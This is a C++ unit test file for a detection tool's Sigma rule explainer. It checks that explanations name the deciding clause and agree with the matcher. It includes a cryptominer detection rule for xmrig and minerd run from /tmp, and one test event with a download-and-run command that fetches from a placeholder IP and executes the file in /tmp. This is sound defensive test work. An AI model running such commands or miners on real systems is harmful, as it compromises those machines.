// Explanations agree with the matcher and name the clause that decided.
#include "detect/rules/explain.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "detect/rules/pack.hpp"
#include "detect/rules/recorded.hpp"

namespace fieldwatch::detect {
namespace {

using Fields = std::vector<std::pair<std::string, std::string>>;
using ::testing::HasSubstr;

std::vector<SourceFile> rule(std::string_view detection) {
    return {{"t.yml",
             "title: T\nid: r1\nlevel: high\nlogsource: {product: linux, category: "
             "process_creation}\ndetection:\n" +
                 std::string(detection)}};
}

SigmaDocuments documents(const std::vector<SourceFile>& files, const std::vector<SourceFile>& words = {}) {
    std::vector<RuleError> errors;
    return parse_sigma_files(files, words, errors);
}

Explanation explain(const std::vector<SourceFile>& files, const Fields& fields,
                    const char* category = "process_creation") {
    auto explainer = RuleExplainer::create(documents(files), "r1", sample_options());
    if (!explainer) {
        ADD_FAILURE() << explainer.error().message;
        return {};
    }
    const auto event = RecordedEvent::make("linux", category, "", fields);
    return explainer->explain(event.event(), event.item());
}

constexpr std::string_view kMiner =
    "  tool: {CommandLine|contains: [xmrig, minerd]}\n"
    "  place: {Image|startswith: /tmp/}\n"
    "  ours: {User: build}\n"
    "  condition: tool and place and not ours\n";

TEST(Explain, NamesTheClauseThatFailedAndWhatTheEventHas) {
    const auto out = explain(rule(kMiner), {{"CommandLine", "sh -c xmrig"}, {"Image", "/usr/bin/sh"}});
    EXPECT_TRUE(out.of_source);
    EXPECT_FALSE(out.fires);
    ASSERT_EQ(out.clauses.size(), 3u);
    EXPECT_EQ(out.clauses[0].text, "CommandLine|contains: xmrig, minerd");
    EXPECT_TRUE(out.clauses[0].held);
    EXPECT_FALSE(out.clauses[0].decides);
    EXPECT_EQ(out.clauses[1].search, "place");
    EXPECT_FALSE(out.clauses[1].held);
    EXPECT_TRUE(out.clauses[1].decides);
    EXPECT_EQ(out.clauses[1].values, std::vector<std::string>{"/usr/bin/sh"});
    EXPECT_EQ(out.sentence, "place: Image|startswith: /tmp/ does not hold: Image is '/usr/bin/sh'");
}

TEST(Explain, BlamesTheFilterThatHeld) {
    const auto out =
        explain(rule(kMiner), {{"CommandLine", "xmrig"}, {"Image", "/tmp/xmrig"}, {"User", "build"}});
    EXPECT_FALSE(out.fires);
    EXPECT_EQ(out.sentence, "ours: User: build holds: User is 'build'");
}

TEST(Explain, SaysWhatFiredAndWhatIsAbsent) {
    const auto fired = explain(rule(kMiner), {{"CommandLine", "xmrig"}, {"Image", "/tmp/xmrig"}});
    EXPECT_TRUE(fired.fires);
    EXPECT_TRUE(fired.clauses[0].decides);
    const auto absent = explain(rule(kMiner), {{"CommandLine", "xmrig"}});
    EXPECT_THAT(absent.sentence, HasSubstr("the event has no Image"));
}

TEST(Explain, KnowsThatCommandFieldsMustHoldOnOneCommand) {
    const auto files = rule("  both: {cmd.name: wget, cmd.facts: runs_from_temp}\n  condition: both\n");
    const auto out = explain(files, {{"CommandLine", "wget http://192.0.2.1/x; /tmp/x"}});
    EXPECT_FALSE(out.fires);
    EXPECT_THAT(out.sentence, HasSubstr("one and the same command"));
    ASSERT_EQ(out.clauses.size(), 2u);
    EXPECT_THAT(out.clauses[0].values, ::testing::Contains("wget"));
}

TEST(Explain, SaysWhenTheEventIsOfAnotherSource) {
    const auto out = explain(rule(kMiner), {{"CommandLine", "xmrig"}, {"Image", "/tmp/x"}}, "file_event");
    EXPECT_FALSE(out.of_source);
    EXPECT_FALSE(out.fires);
    EXPECT_THAT(out.sentence, HasSubstr("linux/process_creation"));
}

TEST(Explain, CountsAFilterDocumentAmongTheClauses) {
    auto files = rule(kMiner);
    files.push_back({"f.yml",
                     "title: F\nlogsource: {product: linux, category: process_creation}\nfilter:\n"
                     "  rules: [r1]\n  lab: {CurrentDirectory: /lab}\n  condition: lab\n"});
    const auto out =
        explain(files, {{"CommandLine", "xmrig"}, {"Image", "/tmp/xmrig"}, {"CurrentDirectory", "/lab"}});
    EXPECT_FALSE(out.fires);
    EXPECT_THAT(out.sentence, HasSubstr("lab: CurrentDirectory: /lab holds"));
}

TEST(Explain, RefusesWhatIsNotThereAndWhatOnlyCorrelates) {
    EXPECT_EQ(RuleExplainer::create(documents(rule(kMiner)), "other", {}).error().code, Errc::NotFound);
}

TEST(Explain, AgreesWithTheMatcherOnEverySampleOfThePack) {
    const auto pack = load_rule_pack(posix_file_system(), FIELDWATCH_SOURCE_DIR "/rules").value();
    const auto compiled = RuleSet::compile(pack.rules, pack.words, sample_options());
    const auto parsed = documents(pack.rules, pack.words);
    Matcher matcher(compiled.rules);
    std::vector<RuleHit> hits;
    std::size_t asked = 0;
    const auto rules = compiled.rules->rules();
    for (std::size_t i = 0; i < rules.size(); i += 3) {  // a third: each is a compilation of its own
        auto explainer = RuleExplainer::create(parsed, rules[i].origin.id, sample_options());
        if (!explainer) continue;
        for (const auto& sample : rules[i].samples) {
            const auto event =
                RecordedEvent::make(rules[i].product, rules[i].category, rules[i].service, sample.fields);
            hits.clear();
            matcher.match_all(event.event(), event.item(), hits);
            const bool fired = std::ranges::any_of(hits, [&](const auto& hit) { return hit.rule == i; });
            const auto out = explainer->explain(event.event(), event.item());
            EXPECT_EQ(out.fires, fired) << rules[i].origin.id;
            EXPECT_FALSE(out.sentence.empty()) << rules[i].origin.id;
            ++asked;
        }
    }
    EXPECT_GT(asked, 50u);
}

}  // namespace
}  // namespace fieldwatch::detect
